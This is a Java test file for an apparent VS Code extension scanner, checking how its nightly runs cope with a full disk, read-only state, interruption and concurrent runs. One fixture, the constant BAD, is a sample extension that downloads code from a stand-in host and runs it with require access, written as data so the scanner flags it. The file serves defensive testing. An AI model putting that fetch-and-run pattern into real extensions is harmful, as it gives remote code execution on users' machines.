package dev.vsxray.cli;

import static dev.vsxray.cli.OwnProcess.names;
import static dev.vsxray.cli.OwnProcess.said;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.reports.json.JsonReportReader;
import dev.vsxray.scanner.model.ScanReport;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/** Nights as processes of their own, on a machine whose disk is full, whose state is closed, or which is shut down. */
@EnabledOnOs(OS.LINUX)
@Timeout(180)
final class RoughNightTest {

    private static final int FINDINGS = 1;
    private static final int USAGE = 2;

    /** 128 and the number of SIGINT. */
    private static final int INTERRUPTED = 130;

    /** A download that runs: {@code malicious}. */
    private static final String BAD = """
            const https = require('https');
            exports.activate = () => https.get('https://far.invalid/p', response => {
              let text = '';
              response.on('data', part => { text += part; });
              response.on('end', () => new Function('require', text)(require));
            });
            """;

    @TempDir
    private Path folder;

    @BeforeEach
    void anExtension() throws IOException {
        extension("good", "exports.activate = () => 'good';");
    }

    private void extension(String name, String code) throws IOException {
        Path home = Files.createDirectories(folder.resolve("extensions").resolve("acme." + name + "-1.0.0"));
        Files.writeString(
                home.resolve("package.json"),
                "{\"publisher\": \"acme\", \"name\": \"" + name + "\", \"version\": \"1.0.0\", \"main\": \"main.js\","
                        + " \"activationEvents\": [\"*\"], \"engines\": {\"vscode\": \"*\"}}");
        Files.writeString(home.resolve("main.js"), code);
    }

    private Process night(List<String> before) throws IOException {
        return OwnProcess.start(
                state(),
                before,
                List.of("nightly", "run", folder.resolve("extensions").toString()));
    }

    private Path state() {
        return folder.resolve("state");
    }

    private ScanReport latest() throws IOException {
        Path report = state().resolve("reports/latest/report.json");
        return JsonReportReader.read(new ByteArrayInputStream(Files.readAllBytes(report)));
    }

    /** The state lies on a disk of its own, which a file then fills to the last byte. */
    @Test
    void aFullDiskSilencesNoNightAndCostsNoneBeforeIt() throws Exception {
        OwnProcess.assumeFileSystems();
        String script = """
                mount -t tmpfs -o size=4m none "$1" || exit 99
                state=$1
                shift
                "$@"
                echo "first: $?"
                cp -r "$state/reports/latest/" "$state/history.db" "$0"
                dd if=/dev/zero of="$state/fill" bs=1k 2>/dev/null
                "$@"
                echo "full: $?"
                cmp "$state/reports/latest/report.json" "$0/latest/report.json" && cmp "$state/history.db" "$0/history.db" &&
                    echo "kept: $(ls -A "$state/reports" | wc -l)"
                rm "$state/fill"
                "$@"
                echo "room: $?"
                """;
        Path aside = Files.createDirectories(folder.resolve("aside"));
        Files.createDirectories(state());
        extension("bad", BAD);

        String said = said(night(List.of("unshare", "-rm", "sh", "-c", script, aside.toString(), state().toString())));

        assertThat(said.substring(said.indexOf("first: "), said.indexOf("full: ")))
                .startsWith("first: " + FINDINGS)
                .contains("acme.bad 1.0.0", "MALICIOUS")
                .contains("could not keep this night in " + state())
                .contains("No space left on device");
        assertThat(said).contains("full: " + FINDINGS, "kept: 3", "room: " + FINDINGS);
    }

    @Test
    void aStateThatMayOnlyBeReadSilencesNoNight() throws Exception {
        List<String> unprivileged = OwnProcess.unprivileged();
        Files.createDirectories(state());
        Files.setPosixFilePermissions(state(), PosixFilePermissions.fromString("r-xr-xr-x"));

        Process night = night(unprivileged);

        assertThat(said(night))
                .contains("1 of 1 extension analysed", "could not keep this night in " + state(), "AccessDenied");
        assertThat(night.exitValue()).isEqualTo(USAGE);
        assertThat(names(state())).isEmpty();
    }

    @Test
    void anInterruptLeavesTheNightBeforeAndTheNextTellsOfIt() throws Exception {
        assertThat(night(List.of()).waitFor()).isZero();
        byte[] before = Files.readAllBytes(state().resolve("reports/latest/report.json"));
        for (int i = 0; i < 40; i++) {
            extension("slow" + i, "for (let i = 0; ; i++) { globalThis['a' + i] = " + i + "; }");
        }
        Process night = night(OwnProcess.INTERRUPTIBLE);
        assertThat(night.waitFor(3, TimeUnit.SECONDS)).isFalse();

        assertThat(OwnProcess.works("kill", "-INT", Long.toString(night.pid()))).isTrue();

        assertThat(night.waitFor()).isEqualTo(INTERRUPTED);
        assertThat(state().resolve("reports/latest/report.json")).hasBinaryContent(before);
        for (int i = 0; i < 40; i++) {
            extension("slow" + i, "exports.activate = () => " + i + ";");
        }
        assertThat(said(night(List.of()))).contains("The nightly run before this one did not end.");
        assertThat(latest().extensions()).hasSize(41);
    }

    @Test
    void ofTwoNightsAtOnceOneRunsAndTheOtherSaysWhose() throws Exception {
        for (int i = 0; i < 8; i++) {
            extension("tool" + i, "for (let i = 0; ; i++) { globalThis['a' + i] = " + i + "; }");
        }
        Process one = night(List.of());
        while (one.isAlive()
                && !(Files.exists(state().resolve("nightly.lock"))
                        && Files.size(state().resolve("nightly.lock")) > 0)) {
            Thread.sleep(10);
        }

        Process other = night(List.of());

        assertThat(said(other)).contains("a nightly run is under way: process " + one.pid() + " of ");
        assertThat(other.exitValue()).isEqualTo(USAGE);
        assertThat(said(one)).contains("wrote " + state());
        assertThat(names(state().resolve("reports")))
                .containsExactly(
                        LocalDate.ofInstant(latest().scan().startedAt(), ZoneOffset.UTC)
                                .toString(),
                        "index.html",
                        "latest");
    }
}
